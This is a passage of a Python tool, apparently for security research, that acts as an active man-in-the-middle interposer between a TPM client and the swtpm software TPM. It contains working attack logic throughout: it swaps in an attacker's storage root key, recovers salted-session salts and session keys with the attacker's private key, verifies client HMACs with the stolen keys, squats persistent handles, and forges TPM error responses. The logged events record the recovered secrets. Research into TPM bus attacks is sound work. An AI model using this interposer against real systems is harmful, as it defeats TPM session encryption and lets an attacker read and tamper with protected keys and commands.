        if cmd.session_attributes() & TPMA_SESSION_ENCRYPT:
            self.log.emit("srk-not-swapped", conn=ex.conn,
                          reason="outPublic is encrypted")
            return raw
        ex.notes["srk"] = True
        return raw

    def read_public_response(self, ex: Exchange, rsp: Response, raw: bytes):
        if not ex.notes.get("srk"):
            return raw
        r = Reader(rsp.params)
        _real_public, real_name, real_qn = r.tpm2b(), r.tpm2b(), r.tpm2b()
        r.end()
        fake_qn = qualified_name(struct.pack(">I", TPM_RH_OWNER),
                                 self.fake_name)
        rsp.params = (tpm2b(self.fake_public) + tpm2b(self.fake_name)
                      + tpm2b(fake_qn))
        self.log.emit("srk-swapped", conn=ex.conn, handle=hx(self.srk_handle),
                      real_name=real_name.hex(),
                      fake_name=self.fake_name.hex(),
                      real_qualified_name=real_qn.hex(),
                      fake_qualified_name=fake_qn.hex())
        return rsp.build()

    def start_session_command(self, ex: Exchange, cmd: Command, raw: bytes):
        """Derive the salt a client encrypted to the fake SRK."""
        if cmd.handles[0] != self.srk_handle:
            return raw
        r = Reader(cmd.params)
        nonce_caller, secret = r.tpm2b(), r.tpm2b()
        if not secret:
            return raw
        r.u8()                                    # sessionType
        sym = r.u16()                             # TPMT_SYM_DEF
        if sym != TPM_ALG_NULL:
            r.u16()
            if sym != TPM_ALG_XOR:
                r.u16()
        auth_hash = r.u16()
        r.end()
        point = Reader(secret)
        eph_x, eph_y = point.tpm2b(), point.tpm2b()
        point.end()
        ephemeral = ec.EllipticCurvePublicNumbers(
            int.from_bytes(eph_x, "big"), int.from_bytes(eph_y, "big"),
            ec.SECP256R1()).public_key()
        z = self.attacker.exchange(ec.ECDH(), ephemeral)
        fake_x = EccPublic.parse(self.fake_public).x
        # Part 1, salted sessions: KDFe(tpmKey.nameAlg, Z, "SECRET",
        # ephemeral.x, tpmKey.x, digest size of tpmKey.nameAlg)
        salt = kdfe(TPM_ALG_SHA256, z, b"SECRET", eph_x, fake_x, 256)
        ex.notes.update(salt=salt, nonce_caller=nonce_caller,
                        auth_hash=auth_hash, bound=cmd.handles[1])
        return raw

    def start_session_response(self, ex: Exchange, rsp: Response, raw: bytes):
        salt, handle = ex.notes.get("salt"), rsp.handles[0]
        if salt is None:
            with self.lock:                   # a session the attacker
                self.sessions.pop(handle, None)   # does not know
            return raw
        auth_hash = ex.notes["auth_hash"]
        r = Reader(rsp.params)
        nonce_tpm = r.tpm2b()
        bits = len(tpm_hash(auth_hash, b"")) * 8
        # an unbound session's key; a bound one would prepend the bind auth
        # value (assumed empty here)
        key = kdfa(auth_hash, salt, b"ATH", nonce_tpm,
                   ex.notes["nonce_caller"], bits)
        with self.lock:
            self.sessions[handle] = SaltedSession(auth_hash, key, nonce_tpm)
        self.log.emit("salt-recovered", conn=ex.conn, session=hx(handle),
                      salt=salt.hex(), session_key=key.hex(),
                      bind=hx(ex.notes["bound"]))
        return raw

    def handle_name(self, handle: int) -> Optional[bytes]:
        """Name of a handle as the client computes it, when known here."""
        if handle == self.srk_handle:
            return self.fake_name
        if handle >> 24 in (0x00, 0x40):      # PCR, permanent: the handle
            return struct.pack(">I", handle)
        return None

    def check_session_hmac(self, ex: Exchange, cmd: Command, raw: bytes):
        """Check a command HMAC with a session key the attacker derived."""
        sessions = cmd.sessions()
        ex.notes["session_handles"] = [h for h, _a in sessions]
        r = Reader(cmd.auth)
        for handle, attrs in sessions:
            r.u32()
            nonce_caller = r.tpm2b()
            r.u8()
            client_hmac = r.tpm2b()
            with self.lock:
                session = self.sessions.get(handle)
            if session is None:
                continue
            names = [self.handle_name(h) for h in cmd.handles]
            if None in names or len(sessions) > 1:
                self.log.emit("session-hmac-unchecked", conn=ex.conn,
                              session=hx(handle), cc=hx(cmd.code))
                continue
            cp_hash = tpm_hash(session.auth_hash, struct.pack(
                ">I", cmd.code) + b"".join(names) + cmd.params)
            expected = hmac.new(
                session.session_key,          # || authValue (empty)
                cp_hash + nonce_caller + session.nonce_tpm + bytes([attrs]),
                HASHES[session.auth_hash][0]).digest()
            self.log.emit("session-hmac-checked", conn=ex.conn,
                          session=hx(handle), cc=hx(cmd.code),
                          attacker_computed_client_hmac=hmac.compare_digest(
                              expected, client_hmac))
        return raw

    def track_nonces(self, ex: Exchange, rsp: Response, raw: bytes):
        """Keep nonceTPM of the known sessions from the response auth."""
        handles = ex.notes.get("session_handles") or []
        r = Reader(rsp.auth)
        for handle in handles:
            nonce_tpm = r.tpm2b()
            r.u8()
            r.tpm2b()
            with self.lock:
                if handle in self.sessions:
                    self.sessions[handle].nonce_tpm = nonce_tpm
        return raw


class RefuseInterposer(PassInterposer):
    """Answers the commands in ``refusals`` (code -> response code) itself;
    with ``after``, only the first such command after each command of code
    ``after`` (a ReadPublic right after a Load, say)."""

    def __init__(self, log: EventLog, refusals: Dict[int, int], after: Optional[int] = None):
        super().__init__(log)
        self.refusals = refusals
        self.after = after
        self.armed = False
        self.lock = threading.Lock()

    def intercept(self, ex, raw, transact):
        rc = self.refusals.get(ex.code)
        if self.after is not None:
            with self.lock:
                if ex.code == self.after:
                    self.armed = True
                    return None
                if rc is None or not self.armed:
                    return None
                self.armed = False
        if rc is None:
            return None
        self.log.emit("refused", conn=ex.conn, cc=hx(ex.code), rc=hx(rc))
        return struct.pack(">HII", TPM_ST_NO_SESSIONS, TPM_HEADER_SIZE, rc)


def password_session() -> bytes:
    """A command auth area with one empty password session (TPM_RS_PW)."""
    auth = struct.pack(">I", 0x40000009) + tpm2b(b"") + bytes([0]) + tpm2b(b"")
    return struct.pack(">I", len(auth)) + auth


class PersistFirstInterposer(PassInterposer):
    """Another program persists its own storage key at the handle a client's
    first EvictControl (of a transient object) is about to use."""

    def __init__(self, log: EventLog):
        super().__init__(log)
        self.lock = threading.Lock()
        self.done = False

    def intercept(self, ex, raw, transact):
        if ex.code != CC_EVICT_CONTROL:
            return None
        cmd = Command.parse(raw, 2)
        if cmd.handles[1] >> 24 != 0x80:   # evicting a persistent object
            return None
        with self.lock:
            if self.done:
                return None
            self.done = True
        handle = struct.unpack(">I", cmd.params[:4])[0]
        template = (struct.pack(">HHI", TPM_ALG_ECC, TPM_ALG_SHA256,
                                SRK_ATTRIBUTES & ~TPMA_OBJECT_NO_DA)
                    + tpm2b(b"")
                    + struct.pack(">HHH", TPM_ALG_AES, 128, TPM_ALG_CFB)
                    + struct.pack(">HHH", TPM_ALG_NULL, TPM_ECC_NIST_P256,
                                  TPM_ALG_NULL)
                    + tpm2b(b"") + tpm2b(b""))
        params = (tpm2b(struct.pack(">H", 0) + struct.pack(">H", 0))  # inSensitive
                  + tpm2b(template) + tpm2b(b"") + struct.pack(">I", 0))
        body = struct.pack(">I", TPM_RH_OWNER) + password_session() + params
        made = transact(struct.pack(">HII", TPM_ST_SESSIONS,
                                    TPM_HEADER_SIZE + len(body),
                                    CC_CREATE_PRIMARY) + body)
        made_rc = response_code(made)
        evict_rc = None
        if made_rc == TPM_RC_SUCCESS:
            primary = struct.unpack(">I", made[10:14])[0]
            body = (struct.pack(">II", TPM_RH_OWNER, primary)
                    + password_session() + struct.pack(">I", handle))
            evict_rc = response_code(transact(struct.pack(
                ">HII", TPM_ST_SESSIONS, TPM_HEADER_SIZE + len(body),
                CC_EVICT_CONTROL) + body))
            body = struct.pack(">I", primary)
            transact(struct.pack(">HII", TPM_ST_NO_SESSIONS,
                                 TPM_HEADER_SIZE + len(body),
                                 CC_FLUSH_CONTEXT) + body)
        self.log.emit("persisted-first", conn=ex.conn, handle=hx(handle),
                      create_rc=hx(made_rc), evict_rc=hx(evict_rc))
        return None


# --------------------------------------------------------------------------
# Connections
# --------------------------------------------------------------------------

class PeerClosed(Exception):
    """The peer closed the connection in the middle of a frame."""


class BufferedSocket:
    def __init__(self, sock: socket.socket):
        self.sock = sock
        self.buf = bytearray()

    def read_exact(self, n: int, eof_ok: bool = False) -> Optional[bytes]:
        while len(self.buf) < n:
            chunk = self.sock.recv(max(65536, n - len(self.buf)))
            if not chunk:
                if eof_ok and not self.buf:
                    return None
                raise PeerClosed(f"closed after {len(self.buf)} of {n} bytes")
            self.buf += chunk
        out = bytes(self.buf[:n])
        del self.buf[:n]
        return out

    def take_buffer(self) -> bytes:
        out = bytes(self.buf)
        self.buf.clear()
        return out

    def sendall(self, data: bytes) -> None:
        self.sock.sendall(data)


def close_quietly(sock: Optional[socket.socket]) -> None:
    if sock is None:
        return
    try:
        sock.close()
    except OSError:
        pass


def pipe(a: socket.socket, b: socket.socket, a_to_b: bytes = b"",
         b_to_a: bytes = b"") -> None:
    """Copies bytes both ways until both directions are closed."""
    if a_to_b:
        b.sendall(a_to_b)
    if b_to_a:
        a.sendall(b_to_a)
    peers = {a: b, b: a}
    open_readers = [a, b]
    while open_readers:
        readable, _, _ = select.select(open_readers, [], [])
        for src in readable:
            try:
                data = src.recv(65536)
            except OSError:
                data = b""
            dst = peers[src]
            if data:
                try:
                    dst.sendall(data)
                    continue
                except OSError:
                    return
            open_readers.remove(src)
            try:
                dst.shutdown(socket.SHUT_WR)
            except OSError:
                pass


class Upstream:
    """Address of swtpm; connects lazily."""

    def __init__(self, host: str, port: int):
        self.host, self.port = host, port

    def connect(self, port_offset: int = 0) -> socket.socket:
        sock = socket.create_connection((self.host, self.port + port_offset),
                                        timeout=UPSTREAM_TIMEOUT)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return sock


class CommandConnection:
    """One client connection on the command port."""

    def __init__(self, conn_id: int, client: socket.socket,
                 upstream: Upstream, interposer: PassInterposer,
                 log: EventLog):
        self.conn_id = conn_id
        self.client = BufferedSocket(client)
        self.upstream_addr = upstream
        self.upstream: Optional[BufferedSocket] = None
        self.interposer = interposer
        self.log = log

    def tpm(self) -> BufferedSocket:
        if self.upstream is None:
            self.upstream = BufferedSocket(self.upstream_addr.connect())
        return self.upstream

    def run(self) -> None:
        try:
            self.serve()
        except (PeerClosed, OSError) as exc:
            self.log.emit("connection", conn=self.conn_id, error=repr(exc))
        except Exception as exc:  # a bug here must not kill the proxy
            self.log.emit("hook-error", conn=self.conn_id, where="connection",
                          error=repr(exc))
        finally:
            close_quietly(self.client.sock)
            close_quietly(self.upstream.sock if self.upstream else None)

    def serve(self) -> None:
        while True:
            head = self.client.read_exact(4, eof_ok=True)
            if head is None:
                return
            word = struct.unpack(">I", head)[0]
            if word >> 16 in (TPM_ST_NO_SESSIONS, TPM_ST_SESSIONS):
                if not self.raw_exchange(head):
                    return
            elif word == MSSIM_SEND_COMMAND:
                if not self.mssim_exchange(head):
                    return
            elif word == MSSIM_SESSION_END:
                self.tpm().sendall(head)
                return
            else:
                self.passthrough(head, f"unknown command-port word 0x{word:x}")
                return

    def passthrough(self, pending: bytes, reason: str,
                    to_client: bytes = b"") -> None:
        self.log.emit("passthrough", conn=self.conn_id, reason=reason)
        tpm = self.tpm()
        pipe(self.client.sock, tpm.sock, pending + self.client.take_buffer(),
             to_client + tpm.take_buffer())

    def read_tpm_response(self) -> Tuple[Optional[bytes], bytes]:
        """(response, bytes read) from swtpm; response None if garbled."""
        header = self.tpm().read_exact(TPM_HEADER_SIZE)
        size = struct.unpack(">I", header[2:6])[0]
        if not TPM_HEADER_SIZE <= size <= MAX_FRAME:
            return None, header
        response = header + self.tpm().read_exact(size - TPM_HEADER_SIZE)
        return response, response

    def exchange(self, command: bytes) -> Tuple[Exchange, bytes]:
        code = (struct.unpack(">I", command[6:10])[0]
                if len(command) >= TPM_HEADER_SIZE else None)
        ex = Exchange(self.conn_id, code)
        return ex, self.interposer.command(ex, command)

    def raw_exchange(self, head: bytes) -> bool:
        rest = self.client.read_exact(TPM_HEADER_SIZE - 4)
        header = head + rest
        size = struct.unpack(">I", header[2:6])[0]
        if not TPM_HEADER_SIZE <= size <= MAX_FRAME:
            self.passthrough(header, f"raw command size {size}")
            return False
        command = header + self.client.read_exact(size - TPM_HEADER_SIZE)
        ex, command = self.exchange(command)
        instead = self.interposer.intercept(ex, command, self.raw_transact)
        if instead is not None:
            self.client.sendall(instead)
            return True
        self.tpm().sendall(command)
        response, seen = self.read_tpm_response()
        if response is None:
            self.passthrough(b"", "garbled TPM response", to_client=seen)
            return False
        self.client.sendall(self.interposer.response(ex, response))
        return True

    def raw_transact(self, command: bytes) -> bytes:
        """The proxy's own command, raw framing, on this connection."""
        self.tpm().sendall(command)
        response, _ = self.read_tpm_response()
        if response is None:
            raise ParseError("garbled TPM response to the proxy's command")
        return response

    def mssim_transact(self, command: bytes) -> bytes:
        """The proxy's own command, mssim framing, on this connection."""
        self.tpm().sendall(struct.pack(">IBI", MSSIM_SEND_COMMAND, 0,
                                       len(command)) + command)
        size = struct.unpack(">I", self.tpm().read_exact(4))[0]
        if size > MAX_FRAME:
            raise ParseError("garbled mssim response to the proxy's command")
        response = self.tpm().read_exact(size)
        self.tpm().read_exact(4)
        return response

    def mssim_exchange(self, head: bytes) -> bool:
        locality = self.client.read_exact(1)
        size = struct.unpack(">I", self.client.read_exact(4))[0]
        if not TPM_HEADER_SIZE <= size <= MAX_FRAME:
            self.passthrough(head + locality + struct.pack(">I", size),
                             f"mssim command size {size}")
            return False
        ex, command = self.exchange(self.client.read_exact(size))
        instead = self.interposer.intercept(ex, command, self.mssim_transact)
        if instead is not None:
            self.client.sendall(struct.pack(">I", len(instead)) + instead
                                + struct.pack(">I", 0))
            return True
        self.tpm().sendall(head + locality + struct.pack(">I", len(command))
                           + command)
        size_bytes = self.tpm().read_exact(4)
        size = struct.unpack(">I", size_bytes)[0]
        if size > MAX_FRAME:
            self.passthrough(b"", "garbled mssim response",
                             to_client=size_bytes)
            return False
        response = self.tpm().read_exact(size)
        ack = self.tpm().read_exact(4)
        if size >= TPM_HEADER_SIZE:
            response = self.interposer.response(ex, response)
        self.client.sendall(struct.pack(">I", len(response)) + response + ack)
        return True


def serve_control(client: socket.socket, upstream: Upstream,
                  log: EventLog, conn_id: int) -> None:
    """Control port: bytes both ways, a new swtpm connection per client."""
    tpm = None
    try:
        tpm = upstream.connect(port_offset=1)
        tpm.settimeout(None)
        pipe(client, tpm)
    except OSError as exc:
        log.emit("connection", conn=conn_id, port="control", error=repr(exc))
    finally:
        close_quietly(client)
        close_quietly(tpm)


# --------------------------------------------------------------------------
# Listeners and main
# --------------------------------------------------------------------------

def bind(host: str, port: int) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        sock.bind((host, port))
        sock.listen(16)
    except OSError:
        sock.close()
        raise
    return sock


def bind_pair(host: str, port: int) -> Tuple[socket.socket, socket.socket]:
    """Listening sockets on port and port+1 (a free pair when port is 0)."""
    if port:
        first = bind(host, port)
        try:
            return first, bind(host, port + 1)
        except OSError:
            first.close()
            raise
    for _ in range(100):
        first = bind(host, 0)
        chosen = first.getsockname()[1]
        try:
            if chosen < 65535:
                return first, bind(host, chosen + 1)
        except OSError:
            pass
        first.close()
    raise OSError("no free pair of ports")


class Proxy:
    def __init__(self, upstream: Upstream, interposer: PassInterposer,
                 log: EventLog):
        self.upstream = upstream
        self.interposer = interposer
        self.log = log
        self.counter_lock = threading.Lock()
        self.counter = 0

    def next_id(self) -> int:
        with self.counter_lock:
            self.counter += 1
            return self.counter

    def accept_loop(self, listener: socket.socket, control: bool) -> None:
        while True:
            try:
                client, _ = listener.accept()
            except OSError as exc:
                self.log.emit("connection", error=f"accept: {exc!r}")
                time.sleep(0.1)
                continue
            client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            conn_id = self.next_id()
            if control:
                target, args = serve_control, (client, self.upstream,
                                               self.log, conn_id)
            else:
                target, args = CommandConnection(
                    conn_id, client, self.upstream, self.interposer,
                    self.log).run, ()
            threading.Thread(target=target, args=args, daemon=True).start()

    def serve(self, command: socket.socket, control: socket.socket) -> None:
        threading.Thread(target=self.accept_loop, args=(control, True),
                         daemon=True).start()
        self.accept_loop(command, False)


def load_attacker_key(path: Optional[str],
                      save_to: Optional[str]) -> ec.EllipticCurvePrivateKey:
    if path:
        try:
            with open(path, "rb") as f:
                key = serialization.load_pem_private_key(f.read(), password=None)
        except FileNotFoundError:
            raise SystemExit(f"{path}: no such file (leave --attacker-key out to generate a key, "
                             "--save-attacker-key FILE to keep it)") from None
        except ValueError as error:
            raise SystemExit(f"{path}: not a PEM private key ({error})") from None
        if not (isinstance(key, ec.EllipticCurvePrivateKey)
                and isinstance(key.curve, ec.SECP256R1)):
            raise SystemExit(f"{path}: not a P-256 private key")
    else:
        key = ec.generate_private_key(ec.SECP256R1())
    if save_to:
        with open(save_to, "wb") as f:
            f.write(key.private_bytes(serialization.Encoding.PEM,
                                      serialization.PrivateFormat.PKCS8,
                                      serialization.NoEncryption()))
    return key


def spki_b64(key: ec.EllipticCurvePrivateKey) -> str:
    der = key.public_key().public_bytes(
        serialization.Encoding.DER,
        serialization.PublicFormat.SubjectPublicKeyInfo)
    return base64.b64encode(der).decode()


def parse_refusal(text: str) -> Tuple[int, int]:
    code, _, rc = text.partition(":")
    try:
        return int(code, 16), int(rc, 16)
    except ValueError:
        raise argparse.ArgumentTypeError(
            f"{text!r}: expected CC:RC in hex, e.g. 0x15d:0x9a2") from None


def parse_args(argv: List[str]) -> argparse.Namespace:
    p = argparse.ArgumentParser(
        description="Active TPM bus interposer between a swtpm TCTI client "
                    "and swtpm (see the module docstring).")
    p.add_argument("--mode", choices=MODES, default="pass")
    p.add_argument("--tpm-host", default="127.0.0.1")
    p.add_argument("--tpm-port", type=int, required=True,
                   help="swtpm command port P (control port is P+1)")
    p.add_argument("--listen-host", default="127.0.0.1")
    p.add_argument("--listen-port", type=int, default=0,
                   help="command port L (control L+1); 0 picks a free pair")
    p.add_argument("--attacker-key", help="PEM P-256 private key "
                   "(swap-key, swap-srk); generated when the option is left out")
    p.add_argument("--save-attacker-key", metavar="FILE",
                   help="write the attacker key (PKCS#8 PEM) here")
    p.add_argument("--srk-handle", type=lambda s: int(s, 0),
                   default=DEFAULT_SRK_HANDLE)
    p.add_argument("--refuse", action="append", default=[], metavar="CC:RC",
                   type=parse_refusal,
                   help="(refuse) answer command code CC with response "
                        "code RC, both hex; repeatable")
    p.add_argument("--refuse-after", type=lambda s: int(s, 16), metavar="CC",
                   help="(refuse) only the first refused command after each "
                        "command of code CC (hex)")
    p.add_argument("--log", help="JSON-lines event log")
    p.add_argument("-v", "--verbose", action="store_true",
                   help="also print every event on stderr")
    return p.parse_args(argv)


def main(argv: List[str]) -> int:
    args = parse_args(argv)
    log = EventLog(args.log, args.verbose)
    attacker = None
    if args.mode == "pass":
        interposer = PassInterposer(log)
    elif args.mode == "refuse":
        if not args.refuse:
            raise SystemExit("--mode refuse needs --refuse CC:RC")
        interposer = RefuseInterposer(log, dict(args.refuse), args.refuse_after)
    elif args.mode == "persist-first":
        interposer = PersistFirstInterposer(log)
    else:
        attacker = load_attacker_key(args.attacker_key,
                                     args.save_attacker_key)
        if args.mode == "swap-key":
            interposer = SwapKeyInterposer(log, attacker)
        else:
            interposer = SwapSrkInterposer(log, attacker, args.srk_handle)
    command, control = bind_pair(args.listen_host, args.listen_port)
    port = command.getsockname()[1]
    log.emit("started", mode=args.mode, listen_port=port,
             tpm_port=args.tpm_port, pid=os.getpid(),
             attacker_spki=spki_b64(attacker) if attacker else None)
    print(f"listening on {port}", flush=True)
    try:
        Proxy(Upstream(args.tpm_host, args.tpm_port), interposer,
              log).serve(command, control)
    except KeyboardInterrupt:
        pass
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
